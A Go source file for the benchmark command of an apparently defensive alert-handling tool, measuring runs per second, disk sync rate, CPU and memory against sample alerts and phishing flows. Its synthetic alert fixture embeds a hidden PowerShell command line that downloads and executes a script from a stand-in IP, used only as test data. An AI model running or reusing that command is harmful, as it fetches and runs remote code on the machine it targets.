package cli

import (
	"context"
	"embed"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"text/tabwriter"
	"time"

	"github.com/spf13/cobra"
	"golang.org/x/sys/unix"

	"github.com/drawbridge-soar/drawbridge/flows"
)

// benchFlows are the reference workloads, with core nodes alone.
//
//go:embed bench/*.flow.json
var benchFlows embed.FS

type benchOptions struct {
	seconds     int
	concurrency []int
	asJSON      bool
}

func benchCommand() *cobra.Command {
	o := benchOptions{}
	c := &cobra.Command{
		Use:   "bench",
		Short: "Measure the reference workloads on this machine",
		Long: `Measure durable runs a second over the webhook, CPU per run, start and memory of
this program, beside the disk's own fdatasync rate: hold the ratios, not the
numbers. Server and load share the machine; a run takes about two minutes.`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error { return runBench(cmd, o) },
	}
	c.AddCommand(benchChainCommand(), benchEngineCommand(), benchWaitingCommand())
	c.Flags().IntVar(&o.seconds, "seconds", 5, "how long each measurement lasts")
	c.Flags().IntSliceVar(&o.concurrency, "concurrency", []int{1, 16, 64}, "how many requests at once")
	c.Flags().BoolVar(&o.asJSON, "json", false, "print the figures as JSON")
	return c
}

// benchRow is one measurement of one workload.
type benchRow struct {
	Workload    string  `json:"workload"`
	Concurrency int     `json:"concurrency"`
	RunsPerS    float64 `json:"runsPerSecond"`
	PerSync     float64 `json:"runsPerFdatasync"`
	CPUPer1000  float64 `json:"cpuSecondsPer1000"`
	P50         float64 `json:"p50ms"`
	P99         float64 `json:"p99ms"`
	Errors      int     `json:"errors"`
}

// benchReport is what bench prints.
type benchReport struct {
	Fdatasync  float64    `json:"fdatasyncPerSecond"`
	StartMs    float64    `json:"startToFirstAnswerMs"`
	IdleMiB    float64    `json:"idlePSSMiB"`
	PhishedMiB float64    `json:"afterPhishingPSSMiB"`
	Rows       []benchRow `json:"rows"`
}

func runBench(cmd *cobra.Command, o benchOptions) error {
	folder, err := os.MkdirTemp(".", ".bench-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(folder) //nolint:errcheck // a folder of its own
	b := &workbenchServer{ctx: cmd.Context(), data: filepath.Join(folder, "data"), log: cmd.ErrOrStderr()}
	report := benchReport{Fdatasync: fdatasyncRate(folder)}
	if err := b.prepare(); err != nil {
		return err
	}
	defer b.stop()
	if report.StartMs, err = b.restart(); err != nil {
		return err
	}
	report.IdleMiB = pss(b.pid())
	for _, name := range []string{"w1", "w2", "w3"} {
		for _, n := range o.concurrency {
			fmt.Fprintf(cmd.ErrOrStderr(), "%s at %d\n", name, n)
			row := b.load(name, n, time.Duration(o.seconds)*time.Second)
			row.PerSync = row.RunsPerS / report.Fdatasync
			report.Rows = append(report.Rows, row)
		}
	}
	if _, err = b.restart(); err != nil {
		return err
	}
	if err := b.phish(); err != nil {
		return err
	}
	report.PhishedMiB = pss(b.pid())
	if o.asJSON {
		return printJSON(cmd.OutOrStdout(), report)
	}
	return report.print(cmd)
}

func (r *benchReport) print(cmd *cobra.Command) error {
	out := cmd.OutOrStdout()
	fmt.Fprintf(out, "fdatasync: %.0f a second\nstart to first answered webhook, warm cache: %.0f ms\nmemory (PSS, children included): %.0f MiB idle, %.0f MiB after the phishing flow\n\n",
		r.Fdatasync, r.StartMs, r.IdleMiB, r.PhishedMiB)
	w := tabwriter.NewWriter(out, 0, 4, 2, ' ', tabwriter.AlignRight)
	fmt.Fprintln(w, "workload\tat once\truns/s\truns/fdatasync\tCPU s/1,000\tp50 ms\tp99 ms\terrors\t")
	for _, row := range r.Rows {
		fmt.Fprintf(w, "%s\t%d\t%.0f\t%.2f\t%.3f\t%.2f\t%.2f\t%d\t\n", strings.ToUpper(row.Workload), row.Concurrency, row.RunsPerS, row.PerSync, row.CPUPer1000, row.P50, row.P99, row.Errors)
	}
	return w.Flush()
}

// fdatasyncRate is how many small appends a second the disk makes durable.
func fdatasyncRate(folder string) float64 {
	f, err := os.OpenFile(filepath.Join(folder, "sync"), os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		return 0
	}
	defer f.Close() //nolint:errcheck // thrown away
	block := make([]byte, 4096)
	began, n := time.Now(), 0
	for time.Since(began) < 2*time.Second {
		if _, err := f.Write(block); err != nil {
			return 0
		}
		if unix.Fdatasync(int(f.Fd())) != nil {
			return 0
		}
		n++
	}
	return float64(n) / time.Since(began).Seconds()
}

// pss is the proportional set size of a process and its children, in MiB.
func pss(pid int) float64 {
	total := 0.0
	for _, p := range append(children(pid), pid) {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/smaps_rollup", p))
		if err != nil {
			continue
		}
		for line := range strings.Lines(string(data)) {
			var kib float64
			if _, err := fmt.Sscanf(line, "Pss: %f kB", &kib); err == nil {
				total += kib / 1024
			}
		}
	}
	return total
}

func children(pid int) []int {
	var found []int
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", pid))
	for _, task := range tasks {
		data, err := os.ReadFile(task)
		if err != nil {
			continue
		}
		for _, field := range strings.Fields(string(data)) {
			var child int
			if _, err := fmt.Sscan(field, &child); err == nil && !slices.Contains(found, child) {
				found = append(found, child)
			}
		}
	}
	return found
}

// cpuSeconds is what a process and its children have used.
func cpuSeconds(pid int) float64 {
	total := 0.0
	for _, p := range append(children(pid), pid) {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p))
		if err != nil {
			continue
		}
		_, rest, _ := strings.Cut(string(data), ") ")
		fields := strings.Fields(rest)
		var user, system float64
		if len(fields) > 12 {
			_, _ = fmt.Sscan(fields[11], &user)
			_, _ = fmt.Sscan(fields[12], &system)
		}
		total += (user + system) / 100
	}
	return total
}

// alert is a body of about 1 KB; large is one of 100 indicators.
func alert(indicators int) []byte {
	type indicator struct {
		Value string  `json:"value"`
		Type  string  `json:"type"`
		Score float64 `json:"score"`
	}
	list := make([]indicator, indicators)
	for i := range list {
		list[i] = indicator{fmt.Sprintf("203.0.113.%d", i%250), []string{"ip", "domain"}[i%2], float64(i)}
	}
	body, _ := json.Marshal(map[string]any{
		"id": "alert-4711", "rule": "Suspicious PowerShell Download", "severity": "high", "confidence": 91,
		"host": map[string]any{"name": "ws-0231", "os": "windows", "ip": "10.20.30.40"}, "user": map[string]any{"name": "jdoe", "department": "finance"},
		"process":    map[string]any{"name": "powershell.exe", "command": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "pid": 4242, "parent": "winword.exe"},
		"detail":     strings.Repeat("observed on the endpoint by the sensor; ", 8),
		"indicators": list,
	})
	return body
}

// phish runs the library's phishing flow on its samples.
func (b *workbenchServer) phish() error {
	samples, err := flows.Library.ReadDir("library/samples/phishing-triage")
	if err != nil {
		return err
	}
	for _, s := range samples {
		raw, err := flows.Library.ReadFile("library/samples/phishing-triage/" + s.Name())
		if err != nil {
			return err
		}
		body, err := json.Marshal(map[string]any{"raw": string(raw)})
		if err != nil {
			return err
		}
		ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
		err = b.send(ctx, b.hooks["phishing"], body)
		cancel()
		if err != nil {
			return err
		}
	}
	return nil
}
